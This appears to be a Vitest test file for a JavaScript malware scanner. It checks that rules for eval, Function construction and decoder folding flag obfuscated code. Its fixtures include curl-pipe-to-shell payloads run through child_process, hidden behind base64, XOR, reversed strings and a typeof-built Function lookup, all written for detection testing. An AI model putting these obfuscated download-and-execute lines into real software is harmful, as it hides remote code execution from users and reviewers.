import { describe, expect, it } from 'vitest';
import { jsFindings, ruleFindings } from '../helpers.js';

describe('JS-005 dynamic-code-execution', () => {
  it('decodes base64 handed to eval and analyses the decoded code', async () => {
    const payload = Buffer.from("require('child_process').exec('curl http://192.0.2.1/a | sh')").toString(
      'base64',
    );
    const all = await jsFindings({ 'index.js': `eval(Buffer.from('${payload}', 'base64').toString())` });
    const dyn = all.filter((f) => f.ruleId === 'JS-005');
    expect(dyn[0]?.severity).toBe('high');
    const inner = all.find((f) => f.ruleId === 'JS-001');
    expect(inner?.evidence?.decodedDepth).toBe(1);
    expect(inner?.line).toBe(1);
  });
  it('resolves Function built from typeof strings (this[...] global lookup)', async () => {
    const f = await ruleFindings(
      'JS-005',
      'function g(b){ var f = this[(typeof(this.Buffer.from)).charAt(0).toUpperCase() + (typeof(this.Buffer.from)).slice(1)]; new f(b)(); }',
    );
    expect(f[0]?.evidence?.callee).toBe('Function');
  });
  it('ignores Function("return this") and function timers', async () => {
    expect(await ruleFindings('JS-005', "Function('return this')(); setTimeout(() => 1, 10);")).toHaveLength(
      0,
    );
  });
});

describe('constant folding of decoders', () => {
  it('folds XOR-decoded char codes and analyses the result as code', async () => {
    const key = 23;
    const codes = [..."require('child_process').exec('curl http://192.0.2.1/x|sh')"].map(
      (c) => c.charCodeAt(0) ^ key,
    );
    const code = `const k = ${key}; const d = String.fromCharCode(...[${codes.join(',')}].map(c => c ^ k)); eval(d);`;
    const all = await jsFindings({ 'index.js': code });
    expect(all.find((f) => f.ruleId === 'JS-005')?.severity).toBe('high');
    expect(all.find((f) => f.ruleId === 'JS-001')?.evidence?.decodedDepth).toBe(1);
  });
  it('folds reversed and joined strings', async () => {
    const f = await ruleFindings(
      'JS-001',
      "require('child_process').exec('hs | 1.2.0.291//:ptth lruc'.split('').reverse().join(''))",
    );
    expect(f[0]?.severity).toBe('critical');
  });
});
